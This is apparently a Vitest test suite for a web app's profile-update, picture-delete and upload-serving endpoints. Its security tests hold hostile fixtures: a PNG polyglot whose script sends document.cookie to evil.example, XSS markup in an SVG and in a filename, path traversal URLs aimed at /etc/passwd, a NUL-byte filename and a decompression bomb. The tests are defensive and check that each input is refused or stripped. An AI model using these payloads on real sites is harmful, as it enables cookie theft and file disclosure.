import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { profileSchema } from '@rankmaps/shared/schemas/profile';
import { type FormPart, multipartBody } from '../../../test/multipart';
import { sessions } from '../../../test/sessions';
import { createTestApp } from '../../../test/test-app';
import { oneFileZip } from '../../../test/zip';
import { users } from '../../db/schema';

const solid = (width: number, height: number, background = '#3366cc') => sharp({ create: { width, height, channels: 3, background } });
const smallPng = () => solid(64, 48, '#ff0000').png().toBuffer();
/** The EXIF pointer to the GPS block (tag 0x8825, type LONG), as stored little-endian. */
const GPS_POINTER = Buffer.from([0x25, 0x88, 0x04, 0x00]);

describe('PUT /api/user', async () => {
  const { app, container } = await createTestApp();
  const db = container.database.db;
  const avatarsDir = path.join(container.config.dataDir, 'uploads', 'avatars');
  const listAvatars = () => readdir(avatarsDir).catch(() => [] as string[]);

  const { signedIn: signedInAs } = sessions(app, container);
  const signedIn = () => signedInAs(undefined, { name: 'Lucía Gómez' });
  const put = (headers: Record<string, string>, parts: FormPart[]) => {
    const body = multipartBody(parts);
    return app.inject({ method: 'PUT', url: '/api/user', headers: { ...headers, ...body.headers }, payload: body.payload });
  };
  const picture = (data: Buffer, filename = 'foto.png', contentType = 'image/png'): FormPart => ({ name: 'profilePicture', filename, data, contentType });
  const fetchUrl = (url: string) => app.inject({ method: 'GET', url });

  /** A user whose profile already has a picture, to check that failures keep it. */
  const withPicture = async () => {
    const signed = await signedIn();
    const res = await put(signed.headers, [{ name: 'name', value: 'Lucía Gómez' }, picture(await smallPng())]);
    expect(res.statusCode).toBe(200);
    return { ...signed, url: res.json().profilePicture as string };
  };
  const expectPictureKept = async (userId: string, headers: Record<string, string>, url: string) => {
    const profile = (await app.inject({ method: 'GET', url: '/api/user/profile', headers })).json();
    expect(profile.profilePicture).toBe(url);
    expect((await fetchUrl(url)).statusCode).toBe(200);
    const [row] = await db.select().from(users).where(eq(users.id, userId));
    expect(`/uploads/${row!.profilePicture}`).toBe(url);
  };

  describe('name and options', () => {
    it('when name and options are sent, then the name is trimmed and only non-empty age and gender are kept', async () => {
      const { headers } = await signedIn();
      const options = JSON.stringify([
        { key: 'gender', value: 'female' },
        { key: 'age', value: '34' },
      ]);
      const res = await put(headers, [
        { name: 'name', value: '  Lucía Martín  ' },
        { name: 'options', value: options },
        { name: 'profilePictureOld', value: '' },
      ]);
      expect(res.statusCode).toBe(200);
      const body = res.json();
      expect(profileSchema.strict().safeParse(body).success).toBe(true);
      expect(body.name).toBe('Lucía Martín');
      expect(body.options).toEqual([
        { key: 'age', value: '34' },
        { key: 'gender', value: 'female' },
      ]);
      expect(body.profilePicture).toBeNull();
    });

    it('when an option comes with an empty value, then it is removed', async () => {
      const { headers } = await signedIn();
      await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'options', value: JSON.stringify([{ key: 'age', value: 40 }, { key: 'gender', value: 'other' }]) }]);
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'options', value: JSON.stringify([{ key: 'age', value: '' }, { key: 'gender', value: 'other' }]) }]);
      expect(res.statusCode).toBe(200);
      expect(res.json().options).toEqual([{ key: 'gender', value: 'other' }]);
    });

    it('when options are not sent, then the stored ones stay', async () => {
      const { headers } = await signedIn();
      await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'options', value: JSON.stringify([{ key: 'age', value: '29' }]) }]);
      const res = await put(headers, [{ name: 'name', value: 'Lucía Nueva' }]);
      expect(res.json()).toMatchObject({ name: 'Lucía Nueva', options: [{ key: 'age', value: '29' }] });
    });

    it('when the options part is sent as application/json, then it is read the same', async () => {
      const { headers } = await signedIn();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'options', value: '[{"key":"age","value":"51"}]', contentType: 'application/json' }]);
      expect(res.statusCode).toBe(200);
      expect(res.json().options).toEqual([{ key: 'age', value: '51' }]);
    });

    it.each([
      ['the name is missing', [], 'El nombre es obligatorio'],
      ['the name is blank', [{ name: 'name', value: '   ' }], 'El nombre es obligatorio'],
      ['the name is too long', [{ name: 'name', value: 'a'.repeat(121) }], 'El texto es demasiado largo'],
      ['the age is not a number', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"age","value":"treinta"}]' }], 'La edad debe ser un número entero entre 16 y 120'],
      ['the age is over 120', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"age","value":121}]' }], 'La edad debe ser un número entero entre 16 y 120'],
      ['the age is under 16', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"age","value":"7"}]' }], 'La edad debe ser un número entero entre 16 y 120'],
      ['the age is negative', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"age","value":"-1"}]' }], 'La edad debe ser un número entero entre 16 y 120'],
      ['the gender is unknown', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"gender","value":"robot"}]' }], 'El género debe ser hombre, mujer u otro'],
      ['an option other than age and gender is sent', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":"role","value":"admin"}]' }], 'Solo se admiten las opciones edad y género'],
      ['options is not JSON', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '[{"key":' }], 'Las opciones del perfil no son válidas'],
      ['options is a JSON object instead of a list', [{ name: 'name', value: 'Ana' }, { name: 'options', value: '{"age":30}' }], 'Las opciones del perfil no son válidas'],
    ] as [string, FormPart[], string][])('when %s, then it answers 400 in Spanish and nothing changes', async (_label, parts, message) => {
      const { user, headers } = await signedIn();
      const res = await put(headers, parts);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe(message);
      const [row] = await db.select().from(users).where(eq(users.id, user.id));
      expect(row).toMatchObject({ name: 'Lucía Gómez', options: [] });
    });

    it('when there is no token, then it answers 401 before reading the body', async () => {
      const res = await put({}, [{ name: 'name', value: 'Ana' }]);
      expect(res.statusCode).toBe(401);
    });
  });

  describe('profile picture', () => {
    it('when a small PNG is uploaded, then it is stored as a WebP of at most 512 px and served from our origin with safe headers', async () => {
      const { headers } = await signedIn();
      const png = await solid(1200, 600, '#00aa55').png().toBuffer();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(png, 'vacaciones.png')]);
      expect(res.statusCode).toBe(200);
      const url: string = res.json().profilePicture;
      expect(url).toMatch(/^\/uploads\/avatars\/[a-f0-9]{32}\.webp$/);

      const served = await fetchUrl(url);
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(served.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      const meta = await sharp(served.rawPayload).metadata();
      expect(meta).toMatchObject({ format: 'webp', width: 512, height: 256 });
    });

    it('when a JPEG carries EXIF with GPS and a rotation, then the stored WebP is upright and has no EXIF, GPS or camera data', async () => {
      const { headers } = await signedIn();
      const jpeg = await solid(80, 40)
        .jpeg()
        .withExif({
          IFD0: { Make: 'RankMapsCam', Model: 'Espia 3000' },
          IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '36/1 43/1 1234/100', GPSLongitudeRef: 'W', GPSLongitude: '4/1 25/1 0/1' },
        })
        .withMetadata({ orientation: 6 })
        .toBuffer();
      const input = await sharp(jpeg).metadata();
      expect(input.exif?.includes(GPS_POINTER)).toBe(true);
      expect(input.orientation).toBe(6);

      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(jpeg, 'IMG_0001.JPG', 'image/jpeg')]);
      expect(res.statusCode).toBe(200);
      const stored = (await fetchUrl(res.json().profilePicture)).rawPayload;
      const meta = await sharp(stored).metadata();
      expect(meta).toMatchObject({ format: 'webp', width: 40, height: 80 });
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(stored.includes(GPS_POINTER)).toBe(false);
      expect(stored.includes('Exif')).toBe(false);
      expect(stored.includes('RankMapsCam')).toBe(false);
    });

    it('when AVIF, WebP and GIF pictures are uploaded, then each is accepted', async () => {
      const { headers } = await signedIn();
      for (const [data, name] of [
        [await solid(16, 16).avif().toBuffer(), 'a.avif'],
        [await solid(16, 16).webp().toBuffer(), 'a.webp'],
        [await solid(16, 16).gif().toBuffer(), 'a.gif'],
      ] as const) {
        const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(data, name, 'application/octet-stream')]);
        expect(res.statusCode, name).toBe(200);
      }
    });

    it('when a new picture replaces the old one, then the old file is deleted and its URL answers 404', async () => {
      const { headers, url: oldUrl } = await withPicture();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(await solid(32, 32, '#000000').png().toBuffer())]);
      expect(res.statusCode).toBe(200);
      expect(res.json().profilePicture).not.toBe(oldUrl);
      expect((await fetchUrl(oldUrl)).statusCode).toBe(404);
      expect(await listAvatars()).not.toContain(path.basename(oldUrl));
    });

    it('when two uploads race, then one wins and the other picture leaves no file behind', async () => {
      const { headers } = await withPicture();
      const before = new Set(await listAvatars());
      const [a, b] = await Promise.all([
        put(headers, [{ name: 'name', value: 'Lucía' }, picture(await solid(20, 20, '#111111').png().toBuffer())]),
        put(headers, [{ name: 'name', value: 'Lucía' }, picture(await solid(20, 20, '#222222').png().toBuffer())]),
      ]);
      expect([a.statusCode, b.statusCode]).toEqual([200, 200]);
      const final: string = (await app.inject({ method: 'GET', url: '/api/user/profile', headers })).json().profilePicture;
      const after = await listAvatars();
      expect(after.filter((f) => !before.has(f))).toEqual([path.basename(final)]);
      expect(after.length).toBe(before.size);
    });

    it('when profilePictureOld is sent instead of a file, then the current picture is kept whatever URL it names', async () => {
      const { user, headers, url } = await withPicture();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'profilePictureOld', value: 'https://evil.example/x.png' }]);
      expect(res.statusCode).toBe(200);
      expect(res.json().profilePicture).toBe(url);
      await expectPictureKept(user.id, headers, url);
    });

    it('when the form sends its file input empty (no name, no bytes), then it counts as no new picture', async () => {
      const { user, headers, url } = await withPicture();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(Buffer.alloc(0), '', 'application/octet-stream')]);
      expect(res.statusCode).toBe(200);
      await expectPictureKept(user.id, headers, url);
    });

    it('when a text file is renamed to .png, then it answers the spec message and the old picture is kept', async () => {
      const { user, headers, url } = await withPicture();
      const before = await listAvatars();
      const res = await put(headers, [{ name: 'name', value: 'Otro Nombre' }, picture(Buffer.from('esto no es una imagen, es texto plano'), 'foto.png', 'image/png')]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo foto.png no es una imagen válida.');
      await expectPictureKept(user.id, headers, url);
      expect(await listAvatars()).toEqual(before);
      const [row] = await db.select().from(users).where(eq(users.id, user.id));
      expect(row!.name).toBe('Lucía Gómez');
    });

    it('when an SVG with a script is uploaded as an image, then it is refused', async () => {
      const { user, headers, url } = await withPicture();
      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(svg, 'logo.svg', 'image/svg+xml')]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo logo.svg no es una imagen válida.');
      await expectPictureKept(user.id, headers, url);
    });

    it('when the file name carries markup or a path, then the message shows it as plain text', async () => {
      const { headers } = await signedIn();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(Buffer.from('nada'), '../<img src=x onerror=alert(1)>foto.png')]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo foto.png no es una imagen válida.');
    });

    it('when the image is 3 MB, then it answers the spec message and the old picture is kept', async () => {
      const { user, headers, url } = await withPicture();
      const noise = Buffer.alloc(1100 * 1000 * 3);
      for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24;
      const big = await sharp(noise, { raw: { width: 1100, height: 1000, channels: 3 } }).png({ compressionLevel: 0 }).toBuffer();
      expect(big.length).toBeGreaterThan(3 * 1024 * 1024);
      const before = await listAvatars();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(big, 'grande.png')]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo grande.png excede los 2 MB.');
      await expectPictureKept(user.id, headers, url);
      expect(await listAvatars()).toEqual(before);
    });

    it('when a file is just over 2 MB, then it is refused, and one of exactly 2 MB is judged by its content', async () => {
      const { headers } = await signedIn();
      const over = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(Buffer.alloc(2 * 1024 * 1024 + 1, 1), 'justo.png')]);
      expect(over.json().error).toBe('El archivo justo.png excede los 2 MB.');
      const exact = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(Buffer.alloc(2 * 1024 * 1024, 1), 'justo.png')]);
      expect(exact.json().error).toBe('El archivo justo.png no es una imagen válida.');
    });

    it('when a small file would decode to over 40 megapixels (a decompression bomb), then it is refused as not a valid image', async () => {
      const { headers } = await signedIn();
      const bomb = await solid(7000, 6000, '#ffffff').png({ compressionLevel: 9 }).toBuffer();
      expect(bomb.length).toBeLessThan(512 * 1024);
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(bomb, 'bomba.png')]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo bomba.png no es una imagen válida.');
    });

    it('when a valid PNG carries an HTML/JS payload after its end, then the stored picture no longer contains it', async () => {
      const { headers } = await signedIn();
      const payload = '<html><script>fetch("https://evil.example/?c="+document.cookie)</script></html>';
      const polyglot = Buffer.concat([await smallPng(), Buffer.from(payload)]);
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(polyglot, 'poly.png')]);
      expect(res.statusCode).toBe(200);
      const served = await fetchUrl(res.json().profilePicture);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.rawPayload.subarray(0, 4).toString()).toBe('RIFF');
      expect(served.rawPayload.includes('<script')).toBe(false);
      expect(served.rawPayload.includes('evil.example')).toBe(false);
    });

    it('when a JPEG has a ZIP archive appended (JPEG/ZIP polyglot), then the stored picture contains no archive', async () => {
      const { headers } = await signedIn();
      const polyglot = Buffer.concat([await solid(40, 40).jpeg().toBuffer(), oneFileZip('index.html', Buffer.from('<script>alert(1)</script>'), 'stored')]);
      expect(polyglot.includes('PK\u0003\u0004')).toBe(true);
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(polyglot, 'poly.jpg', 'image/jpeg')]);
      expect(res.statusCode).toBe(200);
      const stored = (await fetchUrl(res.json().profilePicture)).rawPayload;
      expect(stored.includes('PK\u0003\u0004')).toBe(false);
      expect(stored.includes('index.html')).toBe(false);
      expect(stored.includes('<script')).toBe(false);
    });

    it('when a file comes in a field other than profilePicture, then it is refused', async () => {
      const { headers } = await signedIn();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, { name: 'avatar', filename: 'a.png', data: await smallPng(), contentType: 'image/png' }]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('El archivo debe enviarse en el campo profilePicture.');
    });

    it('when two files are sent, then it answers 400 and stores nothing', async () => {
      const { headers } = await signedIn();
      const before = await listAvatars();
      const png = await smallPng();
      const res = await put(headers, [{ name: 'name', value: 'Lucía' }, picture(png), picture(png)]);
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('Solo puedes subir una imagen.');
      expect(await listAvatars()).toEqual(before);
    });
  });

  describe('malformed bodies', () => {
    it('when the body is JSON instead of multipart, then it answers 400', async () => {
      const { headers } = await signedIn();
      const res = await app.inject({ method: 'PUT', url: '/api/user', headers, payload: { name: 'Ana' } });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('Envía el formulario como multipart/form-data.');
    });

    it.each([
      ['a multipart type without boundary', 'multipart/form-data', 'hola'],
      ['a truncated multipart body', 'multipart/form-data; boundary=xyz', '--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\nAna'],
      ['garbage under a boundary', 'multipart/form-data; boundary=xyz', '\u0000\u0001garbage--xyz--'],
    ])('when it gets %s, then it answers 400 and never 500', async (_label, contentType, payload) => {
      const { headers } = await signedIn();
      const res = await app.inject({ method: 'PUT', url: '/api/user', headers: { ...headers, 'content-type': contentType }, payload });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toEqual(expect.any(String));
    });
  });
});

describe('DELETE /api/user/profile-picture', async () => {
  const { app, container } = await createTestApp();
  const { signedIn } = sessions(app, container);

  it('when the user has a picture, then the profile comes back without it and the file is gone', async () => {
    const { headers } = await signedIn();
    const body = multipartBody([{ name: 'name', value: 'Ana' }, { name: 'profilePicture', filename: 'a.png', data: await smallPng(), contentType: 'image/png' }]);
    const url: string = (await app.inject({ method: 'PUT', url: '/api/user', headers: { ...headers, ...body.headers }, payload: body.payload })).json().profilePicture;
    expect((await app.inject({ method: 'GET', url })).statusCode).toBe(200);

    const res = await app.inject({ method: 'DELETE', url: '/api/user/profile-picture', headers });
    expect(res.statusCode).toBe(200);
    expect(profileSchema.strict().safeParse(res.json()).success).toBe(true);
    expect(res.json().profilePicture).toBeNull();
    expect((await app.inject({ method: 'GET', url })).statusCode).toBe(404);
  });

  it('when the user has no picture, then it still answers the profile', async () => {
    const { headers } = await signedIn();
    const res = await app.inject({ method: 'DELETE', url: '/api/user/profile-picture', headers });
    expect(res.statusCode).toBe(200);
    expect(res.json().profilePicture).toBeNull();
  });

  it('when there is no token, then it answers 401', async () => {
    expect((await app.inject({ method: 'DELETE', url: '/api/user/profile-picture' })).statusCode).toBe(401);
  });
});

describe('GET /uploads', async () => {
  const { app } = await createTestApp();

  it.each([
    '/uploads/avatars/0123456789abcdef0123456789abcdef.webp',
    '/uploads/avatars/nada.webp',
    '/uploads/otra-cosa',
    '/uploads/avatars/..%2F..%2F..%2Fetc%2Fpasswd',
    '/uploads/avatars/..%2Fsecret.webp',
    '/uploads/../../etc/passwd',
    '/uploads/avatars/%2e%2e%2f%2e%2e%2fpackage.json',
    '/uploads/avatars/0123456789ABCDEF0123456789ABCDEF.webp',
  ])('when %s is requested, then it answers a JSON 404', async (url) => {
    const res = await app.inject({ method: 'GET', url });
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json().error).toBe('Recurso no encontrado.');
  });

  it('when a NUL is smuggled into the file name, then the text guard refuses it with a JSON 400 and no file', async () => {
    const res = await app.inject({ method: 'GET', url: '/uploads/avatars/0123456789abcdef0123456789abcdef.webp%00.png' });
    expect(res.statusCode).toBe(400);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(res.json().error).toBe('El texto contiene caracteres no válidos.');
  });

  it('when the health check runs, then it reports the disk storage adapter', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/health' });
    expect(res.json().adapters.storage).toBe('disk');
  });
});
